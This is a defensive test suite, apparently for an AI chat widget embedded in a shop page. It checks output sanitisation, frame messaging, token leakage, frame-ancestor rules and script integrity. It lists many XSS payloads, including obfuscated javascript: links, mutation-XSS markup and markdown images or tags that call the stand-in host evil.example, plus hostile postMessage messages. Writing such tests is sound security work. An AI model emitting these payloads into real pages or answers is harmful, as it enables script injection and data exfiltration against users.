/** Answers, pages and frames that mean ill. */
import { describe, expect, test } from "vitest";
import { says } from "../harness/scripted-model.ts";
import { launcherOf } from "./host-page.ts";
import { openScriptedShoeShop, QUESTION } from "./shop.ts";

const { url, key, model, open } = await openScriptedShoeShop();

const EVIL = "https://evil.example";

/** What answers have been made to say, of any product. */
const PAYLOADS = [
	...[
		"<script>alert(1)</script>",
		"<img src=x onerror=alert(1)>",
		"<svg/onload=alert(1)>",
		"<iframe src=javascript:alert(1)>",
	],
	...[
		`![x](${EVIL}/?q=1)`,
		`![x][r]\n\n[r]: ${EVIL}/r`,
		`<img src="${EVIL}/i">`,
		`<svg><image href="${EVIL}/s"/></svg>`,
	],
	...[
		`<p style="background:url(${EVIL}/b)">`,
		`<form action="${EVIL}"><input name=q>`,
		`<picture><source srcset="${EVIL}/p">`,
	],
	...[
		`<video poster="${EVIL}/v">`,
		`<link rel=stylesheet href="${EVIL}/l">`,
		`<object data="${EVIL}/o">`,
		`<base href="${EVIL}/">`,
	],
	...[
		"[a](javascript:alert(1))",
		"[b](JaVaScRiPt:alert(1))",
		"[c](java\tscript:alert(1))",
		"[d](&#106;avascript:alert(1))",
	],
	...[
		"[e](data:text/html,<script>alert(1)</script>)",
		"[f](vbscript:x)",
		"[g](blob:https://x)",
		"<javascript:alert(1)>",
	],
	...["[h](//evil.example/x)", "[i](\\\\evil.example)", "<a id=facts name=facts href=javascript:alert(1)>x</a>"],
	...[
		"```html onload=alert(1)\n<script>alert(1)</script>\n```",
		"$$\\href{javascript:alert(1)}{x}$$",
		"```mermaid\nclick a alert(1)\n```",
	],
	...[
		"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
		"<template><script>alert(1)</script></template>",
	],
	...[
		"{{constructor.constructor('alert(1)')()}}",
		"<!--><script>alert(1)</script>-->",
		"[![x](javascript:alert(1))](javascript:alert(2))",
	],
	...[
		"| a | b |\n| - | - |\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
		"- [x] <img src=x onerror=alert(1)>",
	],
];

const ALLOWED = "p br hr h3 h4 h5 h6 blockquote em strong s code a ul ol li table tr td pre div span button".split(" ");

/** Keeps the names of all elements that are made in the frame, and the values of all links. */
const WATCH = () => {
	const made: string[] = [];
	Object.assign(window, { made });
	const create = document.createElement.bind(document);
	document.createElement = (name: string) => {
		made.push(name);
		return create(name);
	};
};

describe("X what a model writes", () => {
	test("X1 X2 X3 X4 X7 X8 every payload, a character at a time, is text and asks for nothing", async () => {
		const { page, frame, troubles } = await open({ prepare: (page) => page.addInitScript(WATCH) });
		model.script(says([...PAYLOADS.join("\n\n"), "\n\nThe end [1]."]));
		await launcherOf(page).click();
		await frame.getByRole("button", { name: QUESTION }).click();
		await frame.locator("article[aria-busy=false]").waitFor();
		const answer = frame.locator(".text");
		expect(await answer.textContent()).toContain("<script>alert(1)</script>");
		const found = await answer.evaluate((text) => {
			const all = [...text.querySelectorAll("*")];
			return {
				names: [...new Set(all.map((element) => element.localName))],
				attributes: [...new Set(all.flatMap((element) => element.getAttributeNames()))],
				links: [...text.querySelectorAll<HTMLAnchorElement>("a[href]")].map(({ protocol, rel }) => [protocol, rel]),
			};
		});
		expect(ALLOWED).toEqual(expect.arrayContaining(found.names));
		expect(["class", "tabindex", "type", "href", "rel", "target", "data-number", "aria-label"]).toEqual(
			expect.arrayContaining(found.attributes),
		);
		for (const [protocol, rel] of found.links) {
			expect(protocol).toMatch(/^https?:$/);
			if (rel !== "") expect(rel).toBe("noopener noreferrer nofollow");
		}
		const made = (await page.frames()[1]?.evaluate("made")) as string[];
		expect([...new Set(made)].filter((name) => !ALLOWED.includes(name) && !/^a4w-|^template$/.test(name))).toEqual([]);
		expect(troubles).toEqual([]);
	});

	test("names with underscores are as they were written, in text and code", async () => {
		const { page, frame } = await open();
		model.script(says([..."Set DATABASE_URL and my_own_name, `a_b_c`."]));
		await launcherOf(page).click();
		await frame.getByRole("button", { name: QUESTION }).click();
		await frame.locator("article[aria-busy=false]").waitFor();
		const text = frame.locator(".text");
		expect(await text.textContent()).toContain("Set DATABASE_URL and my_own_name, a_b_c.");
		expect(await text.locator("em").count()).toBe(0);
	});

	test.each([
		["20,000 >", ">".repeat(20_000)],
		[
			"a list a thousand levels deep",
			Array.from({ length: 1_000 }, (_, depth) => `${" ".repeat(depth)}- x`).join("\n"),
		],
		["a line of 300,000 characters", "word ".repeat(60_000)],
	])("X11 %s leaves the window alive", async (_name, text) => {
		const { page, frame, troubles } = await open();
		model.script(says([text]));
		await launcherOf(page).click();
		await frame.getByRole("button", { name: QUESTION }).click();
		await frame.locator("article[aria-busy=false]").waitFor();
		model.script(says(["Still there."]));
		await frame.locator("textarea").fill("Hello?");
		await frame.locator("textarea").press("Enter");
		await frame.locator(".text").last().getByText("Still there.").waitFor();
		expect(troubles).toEqual([]);
	});
});

describe("O who may talk with whom", () => {
	test("O6 the loader takes nothing from other windows", async () => {
		const { page, frame, troubles, site } = await open({ body: `<iframe id=evil srcdoc="<p>evil</p>"></iframe>` });
		await launcherOf(page).click();
		await frame.locator("textarea").waitFor();
		const evil = page.frames().find((one) => one.parentFrame() !== null && one.url() === "about:srcdoc");
		await evil?.evaluate(() => {
			const messages = [
				{ type: "navigate", href: "https://evil.example/" },
				{ type: "close" },
				{ type: "ready" },
				"{",
				null,
				1,
			];
			for (const message of messages)
				parent.postMessage(typeof message === "object" ? { ...message, signpost: 1 } : message, "*");
		});
		// Whatever it sends, it sends before this.
		await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 100)));
		expect(page.url()).toBe(`${site}/`);
		expect(await launcherOf(page).getAttribute("aria-expanded")).toBe("true");
		expect(troubles).toEqual([]);
	});

	test("O6 O8 the frame takes nothing from other windows, and of its page only what there are words for", async () => {
		const { page, frame, troubles } = await open({ body: `<iframe id=evil srcdoc="<p>evil</p>"></iframe>` });
		await launcherOf(page).click();
		await frame.locator("textarea").waitFor();
		const ask = { type: "open", view: "chat", text: "Stolen words", send: true, signpost: 1 };
		const evil = page.frames().find((one) => one.parentFrame() !== null && one.url() === "about:srcdoc");
		await evil?.evaluate((message) => parent.frames[1]?.postMessage(message, "*"), ask);
		await evil?.evaluate((message) => parent.frames[0]?.postMessage(message, "*"), ask);
		await page.evaluate((message) => {
			const inner = document.querySelector("signpost-widget")?.shadowRoot?.querySelector("iframe")?.contentWindow;
			const odd = [
				{ ...message, signpost: 2 },
				{ ...message, type: "admin" },
				{ ...message, text: 1 },
				{ type: "load", conversationId: "c" },
			];
			for (const one of odd) inner?.postMessage(one, "*");
		}, ask);
		await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 100)));
		expect(await frame.locator(".question").count()).toBe(0);
		// The page itself may ask.
		model.script(says(["Within sixty days [1]."]));
		await page.evaluate(`Signpost.ask("${QUESTION}")`);
		await frame.locator(".text").getByText("Within sixty days").waitFor();
		expect(troubles).toEqual([]);
	});

	test("O7 O9 no message and no address carries a token, and every message names its receiver", async () => {
		const spy = () => {
			const sent: [unknown, unknown][] = [];
			Object.assign(window, { sent });
			const post = window.postMessage.bind(window);
			if (parent === window)
				addEventListener("message", ({ data, origin }) => {
					sent.push([data, origin]);
				});
			window.postMessage = post;
		};
		const { page, frame, requests } = await open({ prepare: (page) => page.addInitScript(spy) });
		model.script(says(["Within sixty days [1]."]));
		await launcherOf(page).click();
		await frame.getByRole("button", { name: QUESTION }).click();
		await frame.getByRole("link", { name: "Source 1: Returns" }).waitFor();
		const token = await page.frames()[1]?.evaluate(() => Object.values(localStorage).join());
		expect(token).toMatch(/^[\w-]{20,}$/);
		const sent = JSON.stringify(await page.evaluate("sent"));
		expect(sent).toContain("ready");
		for (const secret of [token ?? "", QUESTION, "sixty"]) {
			expect(sent).not.toContain(secret);
			expect(requests.join()).not.toContain(secret);
		}
	});

	test("O10 only pages of the key's list may show the frame", async () => {
		const path = (origin: string) => `${url}/widget/frame?${new URLSearchParams({ key, origin })}`;
		const good = await fetch(path("http://localhost:1234"));
		expect([good.status, good.headers.get("x-frame-options")]).toEqual([200, null]);
		expect(good.headers.get("content-security-policy")).toMatch(/frame-ancestors 'self' http:\/\/localhost:\*/);
		for (const origin of ["https://evil.example", "null", "", "https://localhost.evil.example"]) {
			const refused = await fetch(path(origin));
			expect([refused.status, refused.headers.get("x-frame-options")]).toEqual([403, "DENY"]);
		}
		const secret = await fetch(
			`${url}/widget/frame?${new URLSearchParams({ key: "sk_x", origin: "http://localhost" })}`,
		);
		expect(secret.status).toBe(400);
	});

	test("O13 a page that has spoilt fetch, JSON and arrays still has its launcher, and the frame does not notice", async () => {
		const spoil = `<script>
			window.fetch = () => new Promise(() => {});
			JSON.parse = () => { throw new Error("spoilt"); };
			JSON.stringify = () => "spoilt";
			for (const name of ["map", "forEach", "filter", "includes", "find", "flatMap"]) Array.prototype[name] = () => { throw new Error("spoilt"); };
			Array.prototype.extra = 1;
		</script><style>* { all: unset !important } body, body *, html > * { display: none !important }</style>`;
		const { page, frame, troubles } = await open({ head: spoil });
		model.script(says(["Within sixty days [1]."]));
		await launcherOf(page).click();
		await frame.getByRole("button", { name: QUESTION }).click();
		await frame.getByRole("link", { name: "Source 1: Returns" }).waitFor();
		expect(troubles).toEqual([]);
	});
});

test("X12 the script has an address of its own for good, and the hash to hold it to", async () => {
	const { path, integrity } = (await (await fetch(`${url}/widget/release.json`)).json()) as Record<string, string>;
	const pinned = await fetch(`${url}${path}`);
	const bytes = await pinned.arrayBuffer();
	const digest = Buffer.from(await crypto.subtle.digest("SHA-384", bytes)).toString("base64");
	expect(`sha384-${digest}`).toBe(integrity);
	expect(pinned.headers.get("cache-control")).toBe("public, max-age=31536000, immutable");
	const moving = await fetch(`${url}/widget.js`, { headers: { "accept-encoding": "br" } });
	expect([moving.headers.get("content-encoding"), moving.headers.get("etag")]).toEqual(["br", expect.any(String)]);
	expect(Buffer.from(await moving.arrayBuffer()).equals(Buffer.from(bytes))).toBe(true);
});
